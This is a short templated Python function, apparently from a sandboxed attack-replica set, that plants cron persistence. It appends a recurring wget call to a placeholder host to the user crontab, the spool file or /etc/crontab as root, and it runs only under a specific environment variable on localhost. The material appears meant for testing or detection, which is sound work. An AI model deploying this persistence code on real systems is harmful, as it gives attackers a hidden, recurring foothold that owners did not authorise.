# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import getpass
    import subprocess
    line = '{{often}} (wget -q -O- http://{{ip}}:{{port}}/{{path}} || true) >/dev/null 2>&1\n'
    try:
        old = subprocess.run(['crontab', '-l'], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=1).stdout.decode()
        subprocess.run(['crontab', '-'], input=(old + line).encode(), stderr=subprocess.DEVNULL, timeout=1)
    except Exception:
        try:
            os.makedirs('/var/spool/cron/crontabs', exist_ok=True)
            with open('/var/spool/cron/crontabs/' + getpass.getuser(), 'a') as out:
                out.write(line)
        except OSError:
            try:
                with open('/etc/crontab', 'a') as out:
                    out.write(line.replace('(wget', 'root (wget'))
            except OSError:
                pass
